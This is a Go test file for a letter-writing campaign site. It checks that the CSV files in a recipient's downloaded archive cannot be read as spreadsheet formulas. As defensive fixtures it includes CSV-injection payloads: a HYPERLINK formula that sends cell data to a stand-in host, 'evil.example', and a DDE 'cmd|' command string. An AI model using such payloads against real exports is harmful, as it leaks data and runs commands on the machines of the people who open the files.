package web_test

import (
	"archive/zip"
	"context"
	"encoding/csv"
	"net/url"
	"strings"
	"testing"

	"github.com/solidarity-letters/solidarity/account"
	"github.com/solidarity-letters/solidarity/campaign"
)

// The recipient's archive is opened in a spreadsheet by whoever it is
// handed to: no cell of its CSV files may be read as a formula, whatever
// a supporter signed with or an organizer typed in the delivery log. (The
// signatures' export neutralises them the same way: campaign.Neutralise.)
func TestArchiveCSVCellsAreNoFormulas(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	s := newSite(t, dbs.Database(t))
	c := s.addCampaign(t, "arch", nil)
	formulas := []struct{ name, city, greeting string }{
		{"=1+1 Anna", "+Minsk", `=HYPERLINK("http://evil.example/?"&A1,"Open") Трымайся!`},
		{"@SUM(A1:A9) Anna", "-Vilnius", "+48 123 456 789 Trzymaj się"},
		{"＝cmd|' /C calc'!A0", "Brest", "-- stay strong --"},
	}
	for i, f := range formulas {
		res := s.post(t, "/c/arch/sign", signForm(s.token(t, "arch"), func(v url.Values) {
			v.Set("name", f.name)
			v.Set("city", f.city)
			v.Set("greeting", f.greeting)
			v.Set("display", "full")
			v.Set("email", "formula"+string(rune('a'+i))+"@example.org")
		}))
		if res.Status != 303 {
			t.Fatalf("sign as %s: %d", f.name, res.Status)
		}
	}
	err := s.Service.Store().EachSignature(ctx, c.ID, func(sig *campaign.Signature) error {
		_, err := s.Core.Moderation.Approve(ctx, sig.ID)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	org := s.loginAs(t, account.RoleOrganizer)
	job := buildDeliveryBundle(t, s, org, c, url.Values{"confirm": {"yes"}})
	recordEvent(t, org, c, url.Values{"kind": {"built"}, "day": {"2027-07-20"}, "bundle": {job}, "public": {"yes"}})
	recordEvent(t, org, c, url.Values{"kind": {"posted"}, "day": {"2027-07-28"}, "method": {"registered"}, "envelopes": {"1"},
		"tracking": {"=2+3"}, "public_note": {"@note"}, "public": {"yes"}})
	recordEvent(t, org, c, url.Values{"kind": {"returned"}, "day": {"2027-08-06"}, "reason": {"-wrong block"}, "public": {"yes"}})

	if res := org.post(t, "/admin/recipients/"+c.RecipientID+"/status", url.Values{"situation": {"transferred"}, "day": {"2027-08-20"},
		"address": {"+Colony 2\nHlybokaye"}}); res.Status != 303 {
		t.Fatalf("record a transfer: %d", res.Status)
	}
	res := org.get(t, "/admin/recipients/"+c.RecipientID+"/archive")
	if res.Status != 200 {
		t.Fatalf("download: status %d", res.Status)
	}
	zr, err := zip.NewReader(strings.NewReader(res.Body), int64(len(res.Body)))
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	csvs := 0
	for _, f := range zr.File {
		if !strings.HasSuffix(f.Name, ".csv") {
			continue
		}
		csvs++
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(rc).ReadAll()
		rc.Close()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				for _, want := range []string{"HYPERLINK", "SUM(A1", "cmd|", "Minsk", "Vilnius", "1+1 Anna", "+48", "-- stay", "=2+3", "@note", "-wrong", "Colony 2"} {
					if strings.Contains(cell, want) {
						seen[want] = true
					}
				}
				if campaign.Neutralise(cell) != cell {
					t.Errorf("%s: the cell %q is read as a formula", f.Name, cell)
				}
			}
		}
	}
	if csvs < 2 {
		t.Errorf("%d CSV files, want the greetings and the delivery log", csvs)
	}
	for _, want := range []string{"HYPERLINK", "SUM(A1", "cmd|", "Minsk", "Vilnius", "1+1 Anna", "+48", "-- stay", "=2+3", "@note", "-wrong", "Colony 2"} {
		if !seen[want] {
			t.Errorf("no CSV cell holds %q: the test did not reach it", want)
		}
	}
}
